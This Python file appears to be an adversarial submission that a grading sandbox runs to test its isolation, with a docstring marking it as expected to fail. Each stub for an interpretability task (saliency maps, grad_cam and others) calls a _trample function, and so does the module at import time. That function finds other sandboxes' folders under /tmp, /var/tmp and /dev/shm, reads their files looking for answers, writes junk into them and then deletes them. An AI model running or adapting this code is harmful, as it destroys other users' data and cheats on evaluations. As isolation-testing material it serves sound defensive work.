"""expect-fail: all
Reads, fills and deletes the private folders of the other sandboxes running beside it (the
self-test's and other students'), where a shared /tmp would put them, and looks there for answers."""
# %% before compute_saliency_maps
import glob
import os
import shutil
import tempfile


def _trample():
    here = os.path.realpath(tempfile.gettempdir())
    folders = set()
    for pattern in ["/tmp/*", "/tmp/*/*", "/tmp/*/*/*", "/var/tmp/*", "/dev/shm/*", os.path.join(here, "..", "*"),
                    os.path.join(here, "..", "..", "*", "*")]:
        folders.update(p for p in glob.glob(pattern) if os.path.isdir(p))
    for folder in folders:
        if os.path.realpath(folder) == here:
            continue
        try:
            for name in os.listdir(folder):
                with open(os.path.join(folder, name), "rb") as f:
                    f.read(1 << 16)
        except OSError:
            pass
        try:
            with open(os.path.join(folder, "filler"), "wb") as f:
                f.write(b"x" * (1 << 20))
        except OSError:
            pass
        shutil.rmtree(folder, ignore_errors=True)

# %% compute_saliency_maps
def compute_saliency_maps(X, y, model):
    _trample()
    raise NotImplementedError

# %% make_fooling_image
def make_fooling_image(X, target_y, model):
    _trample()
    raise NotImplementedError

# %% class_visualization_update_step
def class_visualization_update_step(img, model, target_y, l2_reg, learning_rate):
    _trample()
    raise NotImplementedError

# %% capture_activations
def capture_activations(model, X, layers):
    _trample()
    raise NotImplementedError

# %% filter_visualization_update_step
def filter_visualization_update_step(img, model, layer, channel, l2_reg, learning_rate):
    _trample()
    raise NotImplementedError

# %% smooth_grad
def smooth_grad(X, y, model, noise):
    _trample()
    raise NotImplementedError

# %% integrated_gradients
def integrated_gradients(X, y, model, baseline, steps):
    _trample()
    raise NotImplementedError

# %% grad_cam
def grad_cam(X, y, model, layer):
    _trample()
    raise NotImplementedError

# %% end
_trample()
